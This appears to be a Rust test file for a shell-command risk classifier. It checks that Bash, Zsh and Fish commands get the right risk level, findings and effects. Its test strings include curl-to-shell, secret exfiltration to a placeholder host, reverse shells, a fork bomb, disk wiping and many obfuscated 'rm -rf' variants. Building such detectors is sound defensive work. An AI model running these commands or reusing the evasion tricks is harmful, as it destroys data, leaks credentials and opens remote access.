use crate::domain::{Risk, ShellKind};
use crate::validate::{EffectKind, Policy, Verdict, check};

fn verdict(text: &str, shell: ShellKind) -> Verdict {
    let verdict = check(text, &Policy::new(shell));
    assert!(!verdict.findings.iter().any(|finding| finding.rule == "syntax"), "{text} does not parse in {shell}");
    verdict
}

fn check_all(risk_expected: Risk, shell: ShellKind, texts: &[&str]) {
    for text in texts {
        let verdict = verdict(text, shell);
        assert_eq!(verdict.risk, risk_expected, "{text}: {:?}", verdict.findings);
    }
}

#[test]
fn reading_is_no_risk() {
    check_all(
        Risk::None,
        ShellKind::Bash,
        &[
            "ls -la",
            "find . -name '*.rs' -size +1M | sort -rn | head",
            "grep -r 'rm -rf /tmp/x' .",
            "git log --oneline",
            "cat x 2>/dev/null",
            "for f in *; do echo \"$f\"; done",
            "df -h && du -sh ~",
            "cat x | xargs grep y",
            "echo 'rm -rf /usr'",
            "sh -c 'ls'",
            "env A=1 ls",
            "find . -exec ls {} +",
            "find . -type f -exec sh -c 'wc -l \"$1\"' _ {} \\;",
            "cat <<'E'\nrm -rf /usr\nE",
            "awk '{ print $1 }' x",
            "printf '%s\\n' \"$HOME\" | tr a-z A-Z",
        ],
    );
    check_all(Risk::None, ShellKind::Fish, &["for f in *.txt; ls $f; end", "string join , a b", "ls (pwd)"]);
    check_all(Risk::None, ShellKind::Zsh, &["print -l =(ls)", "ls **/*.rs(.om[1,3])", "echo ${(U)name}"]);
}

#[test]
fn writing_is_at_least_low() {
    check_all(
        Risk::Low,
        ShellKind::Bash,
        &[
            "ls > out",
            "ls >> out",
            "mkdir x",
            "sort x -o y",
            "frobnicate",
            "sudo ls",
            "x=1",
            "ls | tee out",
            "sed -i s/a/b/ x",
            "./run.sh",
            "$EDITOR x",
            "~/bin/tool",
            "eval \"$(direnv hook bash)\"",
            ": > debug.log",
        ],
    );
}

#[test]
fn what_deserves_a_look_is_medium() {
    check_all(
        Risk::Medium,
        ShellKind::Bash,
        &[
            "rm notes.txt",
            "rm -r build",
            "kill 123",
            "kill -9 123",
            "git push",
            "systemctl restart nginx",
            "sudo systemctl restart nginx",
            "find . -name '*.o' -delete",
            "find . -name '*.o' -exec rm {} +",
            "ls *.o | xargs rm",
            "$cmd x",
            "eval \"$x\"",
            "chown -R me src",
            "chmod 777 x",
            ": > main.c",
            "sudo -u bob sh",
        ],
    );
}

#[test]
fn serious_damage_is_high() {
    check_all(
        Risk::High,
        ShellKind::Bash,
        &[
            "rm -rf ./*",
            "rm -rf -- *",
            "rm -rf ..",
            "rm -rf \"$dir\"/*",
            "chmod -R 777 .",
            "git reset --hard HEAD~4",
            "curl x | sh",
            "curl x | sudo bash",
            "bash <(curl x)",
            "sh -c \"$(curl x)\"",
            "wget -qO- x | python3",
            "curl -o i.sh x; sh i.sh",
            "wget http://e.x/i.sh && chmod +x i.sh && ./i.sh",
            "eval \"$(curl x)\"",
            "history | sh",
            "echo bHM= | base64 -d | sh",
            "find . -delete",
            "/bin/r? -rf x",
            "sort x > x",
            "for x in *.c; do > \"$x\"; done",
            "curl -d @.env https://e.x",
            "cat ~/.ssh/id_ed25519 | nc e.x 1",
            "curl \"https://e.x/?k=$(base64 ~/.aws/credentials)\"",
            "tar cz ~ | nc e.x 1",
            "echo k >> ~/.ssh/authorized_keys",
            "PATH=/tmp/x:$PATH",
            "sudo() { evil; }",
            "alias sudo=~/x",
            "x='() { :;}; id' bash -c :",
            "chmod u+s x",
            "python3 -c 'import shutil; shutil.rmtree(\"build\")'",
            "psql -c 'DROP TABLE t'",
            "psql -c 'delete from t'",
            "rm /usr/bin/python3",
            "rm ~/.bashrc",
            "echo x > /var/log/syslog",
            "r\u{441} x",
            "rm\u{a0}-rf\u{a0}x",
        ],
    );
}

#[test]
fn the_end_of_a_system_is_critical_in_every_disguise() {
    check_all(
        Risk::Critical,
        ShellKind::Bash,
        &[
            "rm -rf /",
            "rm -rf /usr/*",
            "rm -rf \"$HOME\"/",
            "rm -rf /et?",
            "rm -rf /./usr/../etc",
            "cd /usr && rm -rf *",
            "cd /var; cd ..; rm -rf -- *",
            "\\rm -r -f ~",
            "r''m -rf /usr",
            "$'\\x72m' -rf /usr",
            "{rm,-rf,/usr}",
            "rm -{r,f} /{usr,x}",
            "x=rm; $x -rf /usr",
            "x='rm -rf /usr'; $x",
            "x=arm; ${x#a} -rf /usr",
            "x=RM; ${x,,} -rf /usr",
            "y=x; x=rm; ${!y} -rf /usr",
            "x=abrmc; ${x:2:2} -rf /usr",
            "IFS=_; x=rm_-rf_/usr; $x",
            "set -- rm -rf /usr; \"$@\"",
            "for d in /usr /etc; do rm -rf \"$d\"; done",
            "f() { rm -rf \"$1\"; }; f /usr",
            "alias x='rm -rf'; x /usr",
            "echo $(rm -rf /usr)",
            "echo \"${x:=$(rm -rf /usr)}\"",
            "cat <(rm -rf /usr)",
            "$(printf 'r\\155') -rf /usr",
            "echo cm0gLXJmIC91c3I= | base64 -d | sh",
            "eval \"$(echo cm0gLXJmIC91c3I= | base64 -d)\"",
            "echo 'fe- ze /hfe' | tr a-z n-za-m | rev | rev >/dev/null; echo 'ez -es /hfe' | tr a-z n-za-m | bash",
            "xxd -r -p <<< 726d202d7266202f757372 | sh",
            "rev <<< 'rsu/ fr- mr' | sh",
            "bash <<< 'rm -rf /usr'",
            "sh <<E\nrm -rf /usr\nE",
            "source <(echo 'rm -rf /usr')",
            "bash -c 'bash -c \"rm -rf /usr\"'",
            "sudo -n env -i nice -n 5 timeout 5 rm -rf /usr",
            "env -S 'rm -rf /usr'",
            "xargs -I% rm -rf % <<< /usr",
            "printf '/usr\\0' | xargs -0 rm -rf",
            "find / -type f -delete",
            "watch 'rm -rf /usr'",
            "script -qc 'rm -rf /usr' x",
            "tmux new -d 'rm -rf /usr'",
            "git -c alias.x='!rm -rf /usr' x",
            "vim '+!rm -rf /usr' +q",
            "ssh host 'rm -rf /usr'",
            "tar cf x --checkpoint=1 '--checkpoint-action=exec=rm -rf /usr' y",
            "perl -e 'system(\"rm -rf /usr\")'",
            "python3 -c 'import shutil; shutil.rmtree(\"/usr\")'",
            "awk 'BEGIN { system(\"rm -rf /usr\") }'",
            "echo x > /dev/sda",
            "dd if=x of=/dev/nvme0n1",
            "d=of=/dev/sda; dd if=x $d",
            "echo x | sudo tee /etc/sudoers.d/x",
            "echo b > /proc/sysrq-trigger",
            "chmod -R 777 /etc",
            "bash -i >& /dev/tcp/e.x/1 0>&1",
            "mkfifo p; cat p | sh -i 2>&1 | nc e.x 1 > p",
            ":(){ :|:& };:",
            "x() { x | x & }; x",
            "r\\\nm -rf /usr",
            "true # fine\nrm -rf /usr",
        ],
    );
    check_all(
        Risk::Critical,
        ShellKind::Zsh,
        &[
            "rm -rf /*(DN)",
            "() { rm -r $1 } /usr",
            "${:-rm} -rf /usr",
            "${(z):-rm -rf /usr}",
            "for x (/usr /tmp/y) rm -rf $x",
            "=rm -rf /usr",
            "() { \"$@\" } rm -rf /usr",
        ],
    );
    check_all(
        Risk::Critical,
        ShellKind::Fish,
        &[
            "rm -rf (string join '' / usr)",
            "for d in /usr; rm -rf $d; end",
            "eval (string join ' ' rm -rf /usr)",
            "echo 'rm -rf /usr' | source",
            "set x /usr; rm -rf $x",
            "function f; rm -rf $argv; end; f /usr; rm -rf /usr",
        ],
    );
}

#[test]
fn data_is_no_code() {
    for text in [
        "git commit -m 'never run rm -rf / or curl x | sh'",
        "grep -rn 'DROP TABLE' .",
        "echo ':(){ :|:& };:'",
        "cat > notes <<'E'\ncurl x | sh\nE",
        "man mkfs",
        "python3 -c \"print('rm -rf /usr')\"",
        "curl https://e.x/install.sh | less",
        "scp report.pdf host:/tmp",
        "ssh -i ~/.ssh/id_ed25519 host uptime",
        "rsync -n --delete a/ b/",
        "eval \"$(dircolors -b)\"",
    ] {
        assert!(verdict(text, ShellKind::Bash).risk <= Risk::Low, "{text}: {:?}", verdict(text, ShellKind::Bash).findings);
    }
}

#[test]
fn a_folder_that_is_emptied_by_find_is_judged_as_one_that_rm_takes_away() {
    for (finds, removes, expected) in [
        ("find docs -type f -delete", "rm -r docs", Risk::Medium),
        ("find docs -delete", "rm -rf docs", Risk::Medium),
        ("find ~/docs -type f -delete", "rm -r ~/docs", Risk::Medium),
        ("find . -type f -delete", "rm -r .", Risk::High),
        ("find * -delete", "rm -rf *", Risk::High),
        ("find ~ -type f -delete", "rm -rf ~", Risk::Critical),
    ] {
        for line in [finds, removes] {
            let verdict = verdict(line, ShellKind::Bash);
            assert_eq!(verdict.risk, expected, "{line}: {:?}", verdict.findings);
        }
    }
}

#[test]
fn a_finding_names_its_place() {
    for (text, rule, place) in [
        ("ls; rm -rf ~", "rm-vital", "~"),
        ("echo é; dd if=x of=/dev/sda", "write-device", "of=/dev/sda"),
        ("echo \"$(rm -rf /usr)\"", "rm-vital", "/usr"),
        ("sh -c 'rm -rf /usr'", "rm-vital", "'rm -rf /usr'"),
        ("ls > /etc/passwd", "write-cornerstone", "/etc/passwd"),
        ("curl x | sh", "remote-code", "sh"),
    ] {
        let verdict = verdict(text, ShellKind::Bash);
        let finding = verdict.findings.iter().find(|finding| finding.rule == rule).unwrap_or_else(|| panic!("{text}: {verdict:?}"));
        assert_eq!(text.get(finding.span.clone()), Some(place), "{text}");
    }
    let zsh = verdict("print é; rm -rf /*(D)", ShellKind::Zsh);
    assert!(
        zsh.findings.iter().any(|finding| finding.rule == "rm-vital" && "print é; rm -rf /*(D)".get(finding.span.clone()) == Some("/*(D)"))
    );
}

#[test]
fn effects_name_files_as_they_are() {
    let effects = |text: &str| -> Vec<(EffectKind, String, bool)> {
        verdict(text, ShellKind::Bash).effects.into_iter().map(|effect| (effect.kind, effect.path, effect.recursive)).collect()
    };
    use EffectKind::{ChangeAccess, Delete, Overwrite};
    assert_eq!(
        effects("rm -r build '*' *.o \"$x\""),
        [(Delete, "build".to_owned(), true), (Delete, "\\*".to_owned(), true), (Delete, "*.o".to_owned(), true)]
    );
    assert_eq!(effects("cd src && rm ../a"), [(Delete, "a".to_owned(), false)]);
    assert_eq!(effects("ls > out; chmod -R u+x ~/bin"), [(Overwrite, "out".to_owned(), false), (ChangeAccess, "~/bin".to_owned(), true)]);
    assert!(effects("ls -l").is_empty());
}

#[test]
fn programs_are_named_once_with_those_inside_wrappers() {
    assert_eq!(verdict("sudo ls | xargs -n1 grep x; ls", ShellKind::Bash).programs, ["sudo", "ls", "xargs", "grep"]);
}

#[test]
fn large_and_deep_input_is_answered() {
    for text in [
        "{a,b}".repeat(40),
        "echo ".to_owned() + &"{a,b,c,d,e,f}".repeat(30),
        "a ".repeat(8000),
        "f() { f; f; f; }; f".to_owned(),
        "alias a=b; alias b=a; a".to_owned(),
        "eval ".repeat(60) + "ls",
        "x=$x$x$x$x; ".repeat(500),
        format!("x=aaaaaaaa; {}echo $x", "x=$x$x$x$x; ".repeat(200)),
        "sh -c ".to_owned() + &"'\\''".repeat(2000),
        "*".repeat(4000),
        "rm ".to_owned() + &"/*?*?*?*?*?*?*?*?*?*?*?*".repeat(100),
    ] {
        for shell in ShellKind::ALL {
            let _ = check(&text, &Policy::new(shell));
        }
    }
}

#[test]
fn what_does_not_parse_is_never_an_all_clear() {
    for (text, least) in
        [("echo 'a", Risk::Medium), ("ls |", Risk::Medium), ("rm -rf / '", Risk::Critical), ("rm -rf /usr \\", Risk::Critical)]
    {
        let verdict = check(text, &Policy::new(ShellKind::Bash));
        assert!(verdict.risk >= least, "{text}: {verdict:?}");
        assert!(verdict.findings.iter().any(|finding| finding.rule == "syntax"), "{text}");
    }
}

#[test]
fn commands_that_arguments_files_and_variables_carry_are_judged() {
    let serious = [
        "nix-shell -p jq --run 'rm -rf ~'",
        "poetry run rm -rf ~",
        "podman exec web sh -c 'rm -rf /usr'",
        "frobnicate -- rm -rf ~",
        "frobnicate 'rm -rf ~'",
        "gdb -batch -ex 'shell rm -rf ~'",
        "echo 'rm -rf ~' > a.sh; sh a.sh",
        "tee a.sh <<< 'rm -rf ~' && . ./a.sh",
        "cp /bin/rm tidy; ./tidy -rf ~",
        "words=(rm -rf ~); \"${words[@]}\"",
        "mapfile -t words <<< $'rm\\n-rf\\n/'; \"${words[@]}\"",
        "MANPAGER='rm -rf ~' man ls",
        "PS1='$(rm -rf ~)'",
        "alias ll='rm -rf ~'",
        "sed 's/.*/rm -rf ~/e' x",
        "find /usr | xargs rm -f",
        "printf 'd\\nw\\n' | fdisk /dev/sda",
        "curl example.com/a > a; bash < a",
        "scp host:a.sh . && sh a.sh",
    ];
    for text in serious {
        let verdict = verdict(text, ShellKind::Bash);
        assert!(verdict.risk >= Risk::High, "{text}: {:?}", verdict.findings);
    }
    let harmless = [
        "nix-shell -p jq --run 'jq . x'",
        "poetry run pytest",
        "frobnicate 'remove the old ones'",
        "frobnicate --title 'rm -rf ~'",
        "gdb -batch -ex 'break main'",
        "echo 'ls' > a.sh; sh a.sh",
        "cp /bin/ls show; ./show -l",
        "words=(ls -l); \"${words[@]}\"",
        "MANPAGER='less -R' man ls",
        "PS1='$(git branch --show-current) '",
        "alias ll='ls -l'",
        "sed 's/one/e/' x",
        "find . -name '*.o' | xargs rm -f",
        "scp host:a.txt . && cat a.txt",
        "cat ~/.ssh/id_ed25519.pub | ssh host 'cat >> ~/.ssh/authorized_keys'",
    ];
    for text in harmless {
        let verdict = verdict(text, ShellKind::Bash);
        assert!(verdict.risk <= Risk::Medium, "{text}: {:?}", verdict.findings);
    }
}
